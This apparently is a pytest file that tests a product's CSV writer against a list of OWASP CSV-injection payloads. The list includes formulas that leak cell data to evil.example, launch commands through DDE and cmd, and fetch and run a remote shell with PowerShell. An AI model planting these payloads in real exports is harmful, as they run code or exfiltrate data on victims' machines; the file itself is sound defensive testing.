"""The product's CSV writer against the OWASP CSV-injection payloads."""

import csv
import io

import pytest

from threatflow.platform.csvsafe import SafeCsvWriter, safe_cell, write

# OWASP "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection) and the payloads
# commonly listed with it (PayloadsAllTheThings, "CSV Injection"), plus the two the issue found.
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: please click for details")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/X", "sheet1!A1:B2")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+thespanishinquisition(\"cmd|' /C calc'!A0\")",
    "=10+20+cmd|' /C calc'!A0",
    '=rundll32|"URL.dll,OpenURL calc.exe"!A',
    "\t=cmd|' /C calc'!A0",
    "\r=cmd|' /C calc'!A0",
    "\r\n=cmd|' /C calc'!A0",
    " =cmd|' /C calc'!A0",
    "\x00=cmd|' /C calc'!A0",
    "\"=cmd|' /C calc'!A0\"",
    "=cmd|' /C calc'!A0,=cmd|' /C calc'!A0",
]


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.replace("\x00", "\\0"))))


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_no_cell_can_start_a_formula(payload):
    text = write([["id", payload, "tail"]], header=["a", "b", "c"])
    rows = _read(text)
    assert len(rows) == 2, f"the payload opened a new row: {text!r}"  # never a new row
    assert rows[1][0] == "id" and rows[1][2] == "tail"  # never a new column
    cell = rows[1][1]
    assert cell.lstrip(" \t\r\n\\0")[:1] not in ("=", "+", "-", "@") or cell.startswith("'")
    assert cell.startswith("'") or cell == payload.replace("\x00", "\\0")


@pytest.mark.parametrize("payload", [p for p in OWASP_PAYLOADS if any(ch < " " for ch in p)])
def test_cells_with_control_characters_are_quoted(payload):
    out = io.StringIO()
    SafeCsvWriter(out).writerow(["x", payload])
    assert out.getvalue().split(",", 1)[1].startswith('"')


def test_numbers_and_plain_text_are_left_alone():
    assert safe_cell(-5) == "-5" and safe_cell(3.5) == "3.5" and safe_cell(True) == "true" and safe_cell(None) == ""
    assert safe_cell("evil.com") == "evil.com" and safe_cell(["a", "b"]) == "a;b"
    assert write([["evil.com", 5]]) == "evil.com,5\n"
